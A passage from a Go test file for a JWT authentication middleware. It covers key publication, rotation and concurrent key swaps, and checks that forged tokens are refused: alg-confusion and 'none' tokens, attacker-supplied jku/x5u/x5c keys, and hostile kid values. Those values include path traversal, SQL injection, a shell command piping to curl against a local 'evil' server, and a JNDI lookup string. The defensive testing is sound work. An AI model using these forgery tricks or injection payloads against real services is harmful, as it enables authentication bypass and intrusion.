			return nil, fmt.Errorf("no key for %v", token.Header)
		}, jwt.WithValidMethods([]string{string(key.Algorithm)}), jwt.WithExpirationRequired())
		if _, isSecret := key.Key.([]byte); isSecret != (err != nil) {
			t.Errorf("another party with the JWKS alone, %s: %v", key.Algorithm, err)
		}
	}
	if listed := published(t, newAuth(t)); len(listed) != 0 {
		t.Errorf("a secret is published: %v", listed)
	}
	body := listen(t, sharedRoutes(newAuth(t, keys(all...)))).send("GET", "/jwks.json").body
	for name, private := range map[string][]byte{
		"RSA d": rsaKey().D.Bytes(), "RSA p": rsaKey().Primes[0].Bytes(), "RSA q": rsaKey().Primes[1].Bytes(),
		"P-256": made(p256().Bytes()), "Ed25519": edKey().Seed(), "secret": bytes.Repeat([]byte("s"), 32),
	} {
		if strings.Contains(body, segment(string(private))) {
			t.Errorf("%s is published: %s", name, body)
		}
	}
}

// A coordinate that begins with a zero byte keeps it, in the JWK and so in the thumbprint.
func TestJWKCoordinatesAreWhole(t *testing.T) {
	for range 5000 {
		key := made(ecdsa.GenerateKey(elliptic.P256(), rand.Reader))
		if point := made(key.PublicKey.Bytes()); point[1] != 0 && point[33] != 0 {
			continue
		}
		k := published(t, newAuth(t, keys(middleware.Key{Algorithm: middleware.ES256, Key: key})))[0]
		if !key.PublicKey.Equal(k.rebuilt(t)) {
			t.Errorf("the key is published as %v", k)
		}
		sum := sha256.Sum256([]byte(`{"crv":"P-256","kty":"EC","x":"` + k["x"] + `","y":"` + k["y"] + `"}`))
		if k["kid"] != segment(string(sum[:])) {
			t.Errorf("the thumbprint is %s, want %s", k["kid"], segment(string(sum[:])))
		}
		return
	}
	t.Fatal("no such key in 5000")
}

// How a key is rotated: the new one verifies, then signs, then the old one goes, and with it its tokens.
func TestSetKeysRotation(t *testing.T) {
	old, next := signers()[middleware.RS256], signers()[middleware.ES256]
	for mode, inMode := range modes {
		t.Run(mode, func(t *testing.T) {
			auth := newAuth(t, inMode, keys(old))
			s := listen(t, sharedRoutes(auth))
			set := func(keys ...middleware.Key) {
				t.Helper()
				if err := auth.SetKeys(keys); err != nil {
					t.Fatal(err)
				}
			}
			signs := func(tokens middleware.Tokens, alg string, published int) {
				t.Helper()
				for _, text := range []string{tokens.AccessToken, renewable(tokens)} {
					if head := headerOf(t, text); head["alg"] != alg {
						t.Errorf("a token has the header %v, want alg %s", head, alg)
					}
				}
				var jwks struct{ Keys []jwk }
				if r := s.send("GET", "/jwks.json"); json.Unmarshal([]byte(r.body), &jwks) != nil || len(jwks.Keys) != published {
					t.Errorf("%d keys are published, want %d", len(jwks.Keys), published)
				}
			}
			first := begin(t, auth, middleware.Identity{})
			signs(first, "RS256", 1)

			set(old, next)
			signs(begin(t, auth, middleware.Identity{}), "RS256", 2)
			set(next, old)
			s.send("GET", "/required", bearer(first.AccessToken)).passed(t, "admin")
			s.send("GET", "/required", bearer(first.AccessToken)).passed(t, "admin") // once more: it may be remembered
			renewed := s.send("POST", "/refresh", bearer(renewable(first))).tokens(t)
			signs(renewed, "ES256", 2)

			set(next)
			for _, path := range []string{"/required", "/refresh", "/logout"} {
				s.send("POST", path, bearer(first.AccessToken)).refused(t, middleware.CodeTokenInvalid)
				s.send("POST", path, bearer(renewable(first))).refused(t, middleware.CodeTokenInvalid)
			}
			s.send("GET", "/required", bearer(renewed.AccessToken)).passed(t, "admin")
			signs(begin(t, auth, middleware.Identity{}), "ES256", 1)

			for name, keys := range map[string][]middleware.Key{"public": {public(old)}, "public, then the old": {public(old), next}, "none": nil, "nil": {{}}} {
				if auth.SetKeys(keys) == nil {
					t.Errorf("R15: SetKeys takes keys that cannot sign: %s", name)
				}
			}
			s.send("GET", "/required", bearer(renewed.AccessToken)).passed(t, "admin")
			signs(begin(t, auth, middleware.Identity{}), "ES256", 1)
		})
	}
	t.Run("verify-only", func(t *testing.T) {
		issuer, verifier := issuerAndVerifier(t)
		text := login(t, issuer)
		if err := verifier.SetKeys([]middleware.Key{public(old)}); err != nil {
			t.Fatal(err)
		}
		verifies(t, "its key is gone", verifier, text, middleware.CodeTokenInvalid)
		if err := verifier.SetKeys([]middleware.Key{public(old), public(next)}); err != nil {
			t.Fatal(err)
		}
		verify(t, verifier, text)
	})
}

// While keys are swapped under the feet of 64 goroutines, no token is refused whose key is there before and after.
func TestSetKeysUnderLoad(t *testing.T) {
	const goroutines, rotations = 64, 1000
	a, b := hs256("a", secret), hs256("b", []byte("another secret, of 32 bytes also"))
	auth := newAuth(t, keys(a, b))
	text := map[string]string{"a": login(t, auth)}
	if err := auth.SetKeys([]middleware.Key{b, a}); err != nil {
		t.Fatal(err)
	}
	text["b"] = login(t, auth)
	var done atomic.Bool
	var verified atomic.Int64
	var readers sync.WaitGroup
	for i := range goroutines {
		readers.Go(func() {
			for n := i; !done.Load(); n++ {
				offered := text[[]string{"a", "b"}[n%2]]
				if n%8 == 0 { // one that is signed and verified in the middle of it all
					tokens, err := auth.Issue(t.Context(), middleware.Identity{Subject: "admin"})
					if err != nil {
						t.Error("issue:", err)
						return
					}
					offered = tokens.AccessToken
				}
				if _, err := auth.Verify(t.Context(), offered); err != nil {
					t.Errorf("a valid token is refused: %v", err)
					return
				}
				verified.Add(1)
				runtime.Gosched()
			}
		})
	}
	for i := 0; i < rotations || verified.Load() < rotations && !t.Failed(); i++ { // a busy machine may start the readers late
		third := hs256("third "+strconv.Itoa(i), bytes.Repeat([]byte{byte(i)}, 32))
		if err := auth.SetKeys([][]middleware.Key{{a, b, third}, {b, a}, {b, third, a}}[i%3]); err != nil {
			t.Fatal(err)
		}
		runtime.Gosched()
	}
	done.Store(true)
	readers.Wait()
}

// confusable are the texts of a public key that a forger could take for the secret.
func confusable(t *testing.T, key middleware.Key, listed jwk) map[string][]byte {
	t.Helper()
	spki := made(x509.MarshalPKIXPublicKey(key.Key.(crypto.Signer).Public()))
	texts := map[string][]byte{
		"PEM":           pemOf("PUBLIC KEY", spki),
		"PEM, trimmed":  bytes.TrimSpace(pemOf("PUBLIC KEY", spki)),
		"PEM with CRLF": bytes.ReplaceAll(pemOf("PUBLIC KEY", spki), []byte("\n"), []byte("\r\n")),
		"DER":           spki,
		"base64 of DER": []byte(base64.StdEncoding.EncodeToString(spki)),
		"JWK":           made(json.Marshal(listed)),
		"kid":           []byte(listed["kid"]),
		"nothing":       nil,
	}
	for _, member := range []string{"n", "x", "y"} {
		if listed[member] != "" {
			texts[member+" as text"] = []byte(listed[member])
			texts[member+" as bytes"] = made(base64.RawURLEncoding.DecodeString(listed[member]))
		}
	}
	if k, ok := key.Key.(*rsa.PrivateKey); ok {
		texts["PKCS #1 PEM"] = pemOf("RSA PUBLIC KEY", x509.MarshalPKCS1PublicKey(&k.PublicKey))
		texts["PKCS #1 DER"] = x509.MarshalPKCS1PublicKey(&k.PublicKey)
	}
	if k, ok := key.Key.(*ecdsa.PrivateKey); ok {
		texts["point"] = made(k.PublicKey.Bytes())
	}
	return texts
}

// The public key is no secret: nobody may sign with it.
func TestR1AlgorithmConfusion(t *testing.T) {
	all := signers()
	for _, alg := range []middleware.Algorithm{middleware.RS256, middleware.PS256, middleware.ES256, middleware.EdDSA} {
		for _, beside := range [][]middleware.Key{nil, {hs256("", secret)}} { // alone, and beside a secret that is not known
			auth := newAuth(t, keys(append([]middleware.Key{all[alg]}, beside...)...))
			s := direct(t, routes(auth))
			genuine := login(t, auth)
			listed := published(t, auth)[0]
			payload := segment(membersOf(t, genuine).object())
			for name, key := range confusable(t, all[alg], listed) {
				for _, head := range []string{
					`{"alg":"HS256","kid":` + strconv.Quote(listed["kid"]) + `,"typ":"JWT"}`, ourHeader, `{"alg":"HS256","kid":"","typ":"JWT"}`,
					`{"alg":"` + string(alg) + `","kid":` + strconv.Quote(listed["kid"]) + `,"typ":"JWT"}`,
				} {
					text := seal(sha256.New, key, segment(head), payload)
					verifies(t, fmt.Sprintf("R1: HMAC with the %s key's %s, header %s", alg, name, head), auth, text, middleware.CodeTokenInvalid)
					refreshes(t, fmt.Sprintf("R1: HMAC with the %s key's %s, header %s", alg, name, head), auth, text, middleware.CodeTokenInvalid)
				}
			}
			for _, none := range []string{"none", "None", "NONE", "nOnE", "none ", "", "\\u006eone"} {
				for _, kid := range []string{"", `"kid":` + strconv.Quote(listed["kid"]) + `,`} {
					for _, signature := range []string{"", ".", strings.Split(genuine, ".")[2], "AAAA"} {
						text := segment(`{"alg":"`+none+`",`+kid+`"typ":"JWT"}`) + "." + payload + "." + signature
						s.send("GET", "/required", bearer(text)).refused(t, middleware.CodeTokenInvalid)
						s.send("POST", "/refresh", bearer(text)).refused(t, middleware.CodeTokenInvalid)
					}
				}
			}
			verify(t, auth, refresh(t, auth, genuine))
		}
	}
}

// forgerKey is the attacker's own, which signs well.
var forgerKey = sync.OnceValue(func() *ecdsa.PrivateKey { return made(ecdsa.GenerateKey(elliptic.P256(), rand.Reader)) })

func signedWith(key *ecdsa.PrivateKey, head map[string]any, payload string) string {
	text := segment(string(made(json.Marshal(head)))) + "." + segment(payload)
	return text + "." + segment(string(made(jwt.SigningMethodES256.Sign(text, key))))
}

// A token brings its own key, or says where to get it or which file has it: none of this is looked at.
func TestR1KeysOfTheToken(t *testing.T) {
	var fetched atomic.Int32
	evil := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { fetched.Add(1) }))
	defer evil.Close()
	stolen := filepath.Join(t.TempDir(), "key")
	planted := []byte("a file that the forger has written")
	if err := os.WriteFile(stolen, planted, 0o600); err != nil {
		t.Fatal(err)
	}

	auth := newAuth(t, keys(signers()[middleware.ES256], hs256("", secret), hs256("old", []byte("another secret, of 32 bytes also"))))
	s := direct(t, routes(auth))
	genuine := login(t, auth)
	listed := published(t, auth)[0]
	theirs := published(t, newAuth(t, keys(middleware.Key{ID: listed["kid"], Algorithm: middleware.ES256, Key: forgerKey()})))[0]
	template := &x509.Certificate{SerialNumber: big.NewInt(1), NotAfter: time.Now().Add(time.Hour)}
	certificate := base64.StdEncoding.EncodeToString(made(x509.CreateCertificate(rand.Reader, template, template, forgerKey().Public(), forgerKey())))

	headers := map[string]any{
		"jwk":      theirs,
		"jku":      evil.URL + "/jwks.json",
		"x5u":      evil.URL + "/cert.pem",
		"x5c":      []string{certificate},
		"x5t":      "AAAA",
		"x5t#S256": "AAAA",
		"key":      string(planted),
	}
	kids := map[string]string{
		"ours":           listed["kid"],
		"theirs":         "theirs",
		"path":           stolen,
		"relative path":  "../../../../../../../.." + stolen,
		"file URL":       "file://" + stolen,
		"/dev/null":      "../../../../dev/null",
		"/dev/zero":      "/dev/zero",
		"URL":            evil.URL + "/key",
		"SQL":            "x' UNION SELECT 'AAAA' --",
		"command":        "|/bin/sh -c 'curl " + evil.URL + "'",
		"template":       "${jndi:ldap://" + strings.TrimPrefix(evil.URL, "http://") + "/a}",
		"NUL":            listed["kid"] + "\x00",
		"NUL first":      "\x00" + listed["kid"],
		"newline":        listed["kid"] + "\n",
		"prototype":      "__proto__",
		"wildcard":       "*",
		"prefix":         listed["kid"][:42],
		"in upper case":  strings.ToUpper(listed["kid"]),
		"look-alike":     "оld",
		"5 KiB":          strings.Repeat("x", 5<<10),
		"8 KiB":          strings.Repeat("x", 8<<10),
		"ours, twice":    listed["kid"] + listed["kid"],
		"invalid UTF-8":  "old\xff",
		"the other HMAC": "old",
	}
	m := membersOf(t, genuine).object()
	sign := func(head map[string]any) []string {
		forHMAC := maps.Clone(head)
		forHMAC["alg"] = "HS256"
		hmacText := segment(string(made(json.Marshal(forHMAC))))
		return []string{
			signedWith(forgerKey(), head, m),
			seal(sha256.New, planted, hmacText, segment(m)),
			seal(sha256.New, nil, hmacText, segment(m)),
			seal(sha256.New, []byte("AAAA"), hmacText, segment(m)),
		}
	}
	for kid, value := range kids {
		offers := []map[string]any{{}, headers}
		for member, value := range headers {
			offers = append(offers, map[string]any{member: value})
		}
		for _, more := range offers {
			head := maps.Clone(more)
			head["alg"], head["typ"], head["kid"] = "ES256", "JWT", value
			texts := sign(head)
			if kid != "ours" { // even our own signature helps no key that is not there
				texts = append(texts, signedWith(p256(), head, m))
			}
			for i, text := range texts {
				verifies(t, fmt.Sprintf("R1: signature %d with %v and the kid %s", i, slices.Sorted(maps.Keys(more)), kid), auth, text, middleware.CodeTokenInvalid)
				s.send("POST", "/refresh", bearer(text)).refused(t, middleware.CodeTokenInvalid)
			}
		}
	}
	// The same headers around a genuine signature have no say either way.
	for member, value := range headers {
		if member == "x5c" {
			value = []string{"MIIB"} // a whole certificate makes the header too long
		}
		head := map[string]any{"alg": "ES256", "typ": "JWT", "kid": listed["kid"], member: value}
		verifies(t, "our own signature beside a "+member, auth, signedWith(p256(), head, m), "")
	}
	for _, alg := range []string{"none", "HS256", "RS256", "ES384", "EdDSA", "es256", ""} { // the algorithm is the key's
		head := map[string]any{"alg": alg, "typ": "JWT", "kid": listed["kid"]}
		verifies(t, "R1: our own signature under alg "+alg, auth, signedWith(p256(), head, m), middleware.CodeTokenInvalid)
	}
	if n := fetched.Load(); n != 0 {
		t.Errorf("R1: the forger's server was asked %d times", n)
	}
	verify(t, auth, refresh(t, auth, genuine))
}

// Secrets and Ed25519 keys are copied: what their owner wipes afterwards still signs.
func TestSetKeysKeepsNoReferences(t *testing.T) {
	auth := newAuth(t)
	ed, hs := slices.Clone(edKey()), slices.Clone(secret)
	list := []middleware.Key{{Algorithm: middleware.EdDSA, Key: ed}, {Algorithm: middleware.HS256, Key: hs}}
	if err := auth.SetKeys(list); err != nil {
		t.Fatal(err)
	}
	clear(ed)
	clear(hs)
	list[0], list[1] = middleware.Key{}, middleware.Key{}
	verifiedByGolangJWT(t, login(t, auth), signers()[middleware.EdDSA])
	verify(t, auth, login(t, newAuth(t)))

	half := slices.Clone(edKey().Public().(ed25519.PublicKey))
	verifier := newAuth(t, authenticating(nil), keys(middleware.Key{Algorithm: middleware.EdDSA, Key: half}))
	clear(half)
	verify(t, verifier, login(t, newAuth(t, keys(signers()[middleware.EdDSA]))))
}
